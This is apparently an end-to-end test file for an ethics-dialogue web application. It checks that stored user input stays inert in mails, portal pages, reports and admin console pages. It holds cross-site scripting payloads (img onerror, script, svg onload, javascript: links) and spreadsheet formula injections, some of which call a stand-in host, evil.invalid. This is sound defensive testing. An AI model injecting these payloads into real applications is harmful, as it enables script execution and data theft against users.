import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import type { Browser, Page } from 'playwright-core';
import {
  launchChromium,
  sampleDialogueInput,
  startSmtpSink,
  startStack,
  waitFor,
  watchPage,
  type SmtpSink,
  type Stack,
} from '@cascade/testing';
import { ADMIN, ConsoleClient, createConsoleAccount } from './support/console';
import { localToday } from './support/hostile-fixture';

/*
 * Stored content is inert everywhere (issue 19, point 6): markup, script and formula payloads put into every field
 * a person can fill come back as text on every console page, the dashboard, the report (HTML, PDF, CSV), the plan
 * CSV, the token-link pages and every mail — nothing runs, no request leaves, no cell a spreadsheet would evaluate.
 */

// Each payload, if it ran, would set window.__pwned or ask evil.invalid for something.
const IMG = `<img src=x onerror="window.__pwned=1;fetch('http://evil.invalid/img')">`;
const SCRIPT = `<script>window.__pwned=2;fetch('http://evil.invalid/script')</script>`;
const JS_LINK = `javascript:window.__pwned=3`;
const SVG = `<svg onload="window.__pwned=4"></svg>`;
const FORMULA = `=HYPERLINK("http://evil.invalid/formula","x")`;
const PAYLOADS = [IMG, SCRIPT, JS_LINK, SVG, FORMULA, '+1+1', '-1-1', '@SUM(1)'];
/** Every first character a spreadsheet reads as the start of a formula (OWASP). */
const FORMULA_START = /^[=+\-@\t\r]/;
const text = (i: number) => `${PAYLOADS[i % PAYLOADS.length]} ${PAYLOADS[(i + 1) % PAYLOADS.length]}`;

const YEAR = new Date().getUTCFullYear();
const CODE = 'XSS';
const ENTITY = {
  code: CODE,
  name: `Office ${IMG}`,
  names: { fr: `Bureau ${SCRIPT}`, es: `Oficina ${SVG}` },
  kind: 'office',
  dutyStation: `Geneva ${SVG}`,
  timeZone: 'Europe/Zurich',
  language: 'en',
  headName: `Head ${SCRIPT}`,
  headEmail: 'head@xss.example.org',
  focalPoints: [{ name: `Focal ${IMG}`, email: 'focal@xss.example.org', language: 'en' }],
};
const TREE = [
  'name,email,manager_email,language,is_manager',
  `"Head ${SCRIPT.replace(/"/g, '""')}",head@xss.example.org,,en,yes`,
  `"Mona ${IMG.replace(/"/g, '""')}",mona@xss.example.org,head@xss.example.org,en,yes`,
  `"${FORMULA.replace(/"/g, '""')}",staff@xss.example.org,mona@xss.example.org,en,no`,
].join('\n');

describe('stored markup, script and formulas stay inert (sqlite)', () => {
  let stack: Stack;
  let sink: SmtpSink;
  let browser: Browser;
  let focal: string;
  let head: string;
  let participants: string;

  const portal = async (token: string, action: string, body: unknown) => {
    const answer = await stack.call('POST', `/api/portal/${token}/${action}`, body);
    if (answer.status >= 300) throw new Error(`${action}: ${answer.status} ${JSON.stringify(answer.body)}`);
    return answer.body as { participantsToken?: string };
  };
  const link = async (role: string, email: string) =>
    (
      await stack.ok<{ token: string }>('POST', `/api/dialogues/${YEAR}/entities/${CODE}/tokens`, {
        role,
        email,
      })
    ).token;

  /** Opens a page and says what ran: a dialog, an outside request, window.__pwned, a planted element. */
  const watchers = new WeakMap<Page, { take(): string[] }>();
  async function inert(page: Page, url: string): Promise<string[]> {
    let watched = watchers.get(page);
    if (!watched) watchers.set(page, (watched = watchPage(page, new URL(stack.base).origin)));
    const ran: string[] = [];
    await page.goto(url, { waitUntil: 'networkidle' });
    // Links whose target would run code when followed.
    const scriptLinks = await page.evaluate<number>(
      `[...document.querySelectorAll('a[href]')].filter((a) => a.getAttribute('href').trim().toLowerCase().startsWith('javascript:')).length`,
    );
    if (scriptLinks > 0) ran.push(`${scriptLinks} javascript: link(s)`);
    if (await page.evaluate('window.__pwned !== undefined')) ran.push('window.__pwned was set');
    // The payload's own elements must not exist as elements: an <img src=x> or an <svg onload> in the DOM.
    const planted = await page.evaluate<number>(
      `document.querySelectorAll('img[src="x"], svg[onload], [onerror]').length`,
    );
    if (planted > 0) ran.push(`${planted} planted element(s)`);
    // A dialog, a request to another host, an error the page threw or logged.
    ran.push(...watched.take());
    return ran.map((r) => `${url}: ${r}`);
  }

  beforeAll(async () => {
    sink = await startSmtpSink();
    stack = await startStack({
      driver: 'sqlite',
      workers: 1,
      env: {
        SMTP_URL: `smtp://127.0.0.1:${sink.port}`,
        SMTP_IGNORE_TLS: 'true',
        MAIL_FROM: 'Ethics Office <ethics-office@un.example.org>',
        PORTAL_SECRET: 'e2e-portal-secret-0123456789abcdefghij',
      },
    });
    browser = await launchChromium();
    await stack.ok('POST', '/api/dialogues', sampleDialogueInput(YEAR));
    await stack.ok('POST', '/api/entities/import', { entities: [ENTITY] });
    await stack.ok('POST', `/api/dialogues/${YEAR}/launch`);
    await waitFor(() => sink.received.length >= 2, { what: 'the invitations', timeoutMs: 60000 });
    await stack.ok('POST', `/api/dialogues/${YEAR}/entities/${CODE}/org-tree`, TREE, {
      contentType: 'text/csv',
    });

    // Every field a Focal Point, the Head, a leader and a participant can fill.
    focal = await link('focal-point', 'focal@xss.example.org');
    head = await link('head-of-entity', 'head@xss.example.org');
    await portal(focal, 'extension-requests', { wishedDeadline: `${YEAR + 1}-01-31`, reason: text(0) });
    await portal(focal, 'scenario-proposals', { title: text(1), description: text(2) });
    await portal(focal, 'seminar-requests', {
      topic: text(3),
      preferredPeriod: text(4),
      expectedParticipants: 20,
      details: text(5),
    });
    const session = await portal(head, 'sessions', {
      heldOn: localToday('Europe/Zurich'),
      durationMinutes: 90,
      language: text(6).slice(0, 40),
      format: 'in-person',
      staffParticipants: 12,
      nonStaffParticipants: 0,
      facilitator: text(7),
      questions: [text(0), text(2)],
      jointUnits: [text(3)],
    });
    participants = session.participantsToken as string;
    await portal(participants, 'feedback', { usefulness: 4, openness: 4, relevance: 4, comment: text(4) });
    await portal(focal, 'statistics', {
      eligibleStaff: 20,
      staffParticipated: 12,
      sessionsHeld: 1,
      managersLed: 1,
      nonStaffParticipants: 0,
      comments: text(5),
      confirmDifferences: true,
    });
    await createConsoleAccount(stack, ADMIN, 'admin');
  }, 240000);

  afterAll(async () => {
    await browser?.close();
    await stack?.stop();
    await sink?.close();
  });

  it('mails carry the payloads as text: escaped in the HTML part, no element, no script', async () => {
    await waitFor(() => sink.received.length >= 4, { what: 'the mails of the year so far' });
    expect(sink.received.length).toBeGreaterThanOrEqual(4);
    for (const mail of sink.received) {
      const html = mail.parsed.html || '';
      const subject = mail.parsed.subject ?? '';
      for (const raw of [IMG, SCRIPT, SVG]) expect([subject, html.includes(raw)]).toEqual([subject, false]);
      expect(html).not.toMatch(/<script|onerror=|onload=|href="javascript:/i);
    }
    // The escaped payload is there as text (the name was not dropped).
    const invitation = sink.received.find((m) => m.rcptTo.includes('focal@xss.example.org'));
    expect(invitation?.parsed.html).toContain('Office &lt;img src');
  });

  it('the token-link pages show the payloads as text and run nothing', async () => {
    const ran: string[] = [];
    for (const token of [focal, head, participants]) {
      for (const lang of ['en', 'fr', 'es']) {
        const page = await browser.newPage();
        try {
          ran.push(...(await inert(page, `${stack.base}/p/${token}?lang=${lang}`)));
        } finally {
          await page.close();
        }
      }
    }
    expect(ran).toEqual([]);
  });

  it('the report (HTML, PDF, CSV) and the plan CSV keep the payloads inert', async () => {
    const context = await browser.newContext({
      extraHTTPHeaders: { 'x-api-key': stack.env['ADMIN_API_KEY'] as string },
    });
    const page = await context.newPage();
    try {
      expect(await inert(page, `${stack.base}/api/dialogues/${YEAR}/report/draft?format=html`)).toEqual([]);
      expect(await page.textContent('body')).toContain('Office <img src=x onerror=');
    } finally {
      await context.close();
    }
    for (const url of [
      `/api/dialogues/${YEAR}/report/draft?format=csv`,
      `/api/dialogues/${YEAR}/plan?format=csv`,
    ]) {
      const answer = await stack.call<string>('GET', url);
      expect([url, answer.status]).toEqual([url, 200]);
      const cells = (parse(answer.body, { columns: true }) as Record<string, string>[]).flatMap((row) =>
        Object.values(row),
      );
      expect(cells.length).toBeGreaterThan(0);
      expect([url, cells.filter((cell) => FORMULA_START.test(cell))]).toEqual([url, []]);
    }
    // The PDF is printed from the same escaped HTML: the payload is there as words.
    const pdf = await fetch(`${stack.base}/api/dialogues/${YEAR}/report/draft?format=pdf`, {
      headers: { 'x-api-key': stack.env['ADMIN_API_KEY'] as string },
    });
    expect(pdf.status).toBe(200);
    const file = path.join(os.tmpdir(), `stored-markup-${process.pid}.pdf`);
    fs.writeFileSync(file, Buffer.from(await pdf.arrayBuffer()));
    try {
      expect(execFileSync('pdftotext', [file, '-']).toString()).toContain('onerror');
    } finally {
      fs.rmSync(file, { force: true });
    }
  });

  it('every console page shows the payloads as text and runs nothing: dashboard, every list, every record', async () => {
    const client = new ConsoleClient(stack.base);
    expect((await client.login(ADMIN)).status).toBe(302);
    const context = await browser.newContext();
    await context.addCookies([...client.cookies].map(([name, value]) => ({ name, value, url: stack.base })));
    const resources = [
      'Dialogue',
      'EntityWorkflow',
      'ManagerWorkflow',
      'OrgEntity',
      'FocalPoint',
      'Person',
      'ExtensionRequest',
      'SessionQuestion',
      'ScenarioProposal',
      'SeminarRequest',
      'SessionRecord',
      'StatisticsSubmission',
      'MailMessage',
      'AuditEvent',
    ];
    const ran: string[] = [];
    const page = await context.newPage();
    try {
      ran.push(...(await inert(page, `${stack.base}/admin`)));
      for (const resource of resources) {
        ran.push(...(await inert(page, `${stack.base}/admin/resources/${resource}`)));
        const [first] = await client.list(resource, {}, 1);
        if (first)
          ran.push(
            ...(await inert(page, `${stack.base}/admin/resources/${resource}/records/${first.id}/show`)),
          );
      }
      // The entity's timeline and cascade, where names and reasons are shown in tables.
      const [workflow] = await client.list('EntityWorkflow', {}, 1);
      for (const action of ['timeline', 'cascade'])
        ran.push(
          ...(await inert(
            page,
            `${stack.base}/admin/resources/EntityWorkflow/records/${workflow.id}/${action}`,
          )),
        );
    } finally {
      await context.close();
    }
    expect(ran).toEqual([]);
  });
});
